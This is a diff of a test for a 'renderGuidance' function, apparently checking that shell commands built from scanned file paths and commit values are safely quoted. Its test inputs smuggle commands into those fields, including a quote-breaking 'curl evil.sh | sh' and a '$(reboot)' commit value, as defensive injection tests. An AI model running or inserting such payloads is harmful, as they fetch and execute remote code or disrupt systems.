@@ -56,7 +56,7 @@ describe('renderGuidance', () => {
     };
     const out = renderGuidance([evil]);
     expect(out).toContain(
-      `git show 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa:x'\\''; curl evil.sh | sh; echo '\\''\`\`\`?' | sed -n '3p'`,
+      `git show 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa:x'\\''; curl evil.sh | sh; echo '\\''\`\`\`\\n' | sed -n '3p'`,
     );
     expect(out).toContain('````sh');
     const notHex = { ...redis, occurrences: [{ path: 'a.env', line: 1, commit: '$(reboot)' }] };
